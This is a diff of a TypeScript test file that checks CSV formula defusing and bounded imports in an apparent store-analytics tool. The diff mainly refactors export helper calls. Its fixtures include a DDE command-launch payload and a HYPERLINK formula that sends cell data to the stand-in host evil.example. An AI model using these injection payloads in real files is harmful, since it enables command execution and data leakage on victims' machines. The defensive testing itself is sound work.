@@ -2,16 +2,18 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { ingest } from '@/core/background/ingest';
 import { csvNumber, csvText, parseCsv, undefused } from '@/core/background/transfer/csv';
-import { exportCsv, exportJson } from '@/core/background/transfer/export';
+import { exportText, type ExportFile } from '@/core/background/transfer/export';
 import { importData } from '@/core/background/transfer/import';
-import type { DailyRecord } from '@/core/db';
-import { day, freshDb, noonOf, obs, report, SYCM_URL } from './support/db';
+import type { Database, DailyRecord } from '@/core/db';
+import { allDays, day, freshDb, noonOf, obs, report, SYCM_URL } from './support/db';
 
 /** Export files opened in a spreadsheet run nothing; odd stored times never break an export; imports are bounded. */
 
 const CALC = `-1+cmd|' /C calc'!A0`;
 const LINK = `-2-HYPERLINK("http://evil.example/?leak="&A1,"click")`;
 const NOW = noonOf('2026-11-26');
+const exportCsv = (db: Database) => exportText(db, 'csv', NOW);
+const exportJson = async (db: Database) => JSON.parse(await exportText(db, 'json', NOW)) as ExportFile;
 
 async function hostileShop() {
   const db = await freshDb('storepulse-safety');
@@ -51,7 +53,7 @@ describe('CSV formula defusing', () => {
     const result = await importData(target, csv, NOW);
     expect(result.rejected).toEqual([]);
     const strip = (d: DailyRecord[]) => d.map(({ observedAt: _o, ...rest }) => rest).sort((a, b) => a.id.localeCompare(b.id));
-    expect(strip(await target.getAll('daily'))).toEqual(strip(await db.getAll('daily')));
+    expect(strip(await allDays(target))).toEqual(strip(await allDays(db)));
   });
 
   it('writes a negative number as a number, and round-trips any text', () => {
@@ -71,16 +73,18 @@ describe('CSV formula defusing', () => {
 describe('times and days on import, and exports of whatever is stored', () => {
   it('exports CSV and JSON even when a stored record holds a time no date can hold', async () => {
     const db = await hostileShop();
-    const [first] = await db.getAll('daily');
-    await db.put('daily', { ...first!, observedAt: 9e15 });
-    const csv = await exportCsv(db);
-    expect(parseCsv(csv)).toHaveLength(5);
-    expect(JSON.stringify(await exportJson(db, NOW))).toContain('9000000000000000');
+    const [first] = await db.getAll('days');
+    await db.put('days', { ...first!, observedAt: first!.observedAt.map((at) => (at === null ? null : 9e15)) });
+    const rows = parseCsv(await exportCsv(db));
+    expect(rows).toHaveLength(5);
+    const observedAt = rows[0]!.indexOf('observed_at');
+    expect(rows.slice(1).map((r) => r[observedAt])).toContain('');
+    expect(JSON.stringify(await exportJson(db))).toContain('9000000000000000');
   });
 
   it('refuses records dated after tomorrow, or with times no later export could write, and keeps the rest', async () => {
     const source = await hostileShop();
-    const file = await exportJson(source, NOW);
+    const file = await exportJson(source);
     const [d0, d1, d2] = file.daily;
     file.daily = [
       { ...d0!, observedAt: 9e15 },
